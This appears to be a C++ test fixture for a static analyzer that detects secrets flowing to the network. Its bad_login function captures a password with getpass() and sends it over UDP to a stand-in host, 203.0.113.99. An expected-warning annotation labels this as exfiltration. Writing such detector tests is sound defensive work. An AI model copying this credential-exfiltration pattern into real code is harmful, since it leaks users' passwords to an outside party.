// Where a line goes is decided by which sinks were added: owners of what is derived, kept as owners
// of their base.
#include <arpa/inet.h>
#include <memory>
#include <string>
#include <sys/socket.h>
#include <unistd.h>
#include <utility>
#include <vector>

namespace {
class Sink {
  public:
    virtual ~Sink() = default;
    virtual void take(const std::string &line) = 0;
};

class Console : public Sink {
  public:
    void take(const std::string &line) override {
        (void)!write(1, line.data(), line.size());
    }
};

class Remote : public Sink {
    int fd;

  public:
    Remote(const char *address, int port) : fd(socket(AF_INET, SOCK_DGRAM, 0)) {
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons(static_cast<unsigned short>(port));
        inet_pton(AF_INET, address, &to.sin_addr);
        (void)connect(fd, reinterpret_cast<sockaddr *>(&to), sizeof to);
    }
    void take(const std::string &line) override {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(fd, line.data(), line.size(), 0);
    }
};

class Quiet : public Sink {
    int fd;

  public:
    explicit Quiet(int to) : fd(to) {}
    void take(const std::string &line) override {
        send(fd, &line, line.empty(), 0);
    }
};

class Prompt {
    std::unique_ptr<Sink> sink;

  public:
    explicit Prompt(std::unique_ptr<Sink> to) : sink(std::move(to)) {}
    std::string ask(const char *what) {
        std::string answer = getpass(what);
        sink->take(std::string(what) + answer);
        return answer;
    }
};
} // namespace

std::string bad_login() {
    Prompt prompt(std::make_unique<Remote>("203.0.113.99", 514));
    return prompt.ask("Password: ");
}

void good_login(const std::string &name, int link) {
    std::vector<std::unique_ptr<Sink>> sinks;
    sinks.push_back(std::make_unique<Console>());
    sinks.push_back(std::make_unique<Quiet>(link));
    for (auto &sink : sinks)
        sink->take("login of " + name);
}
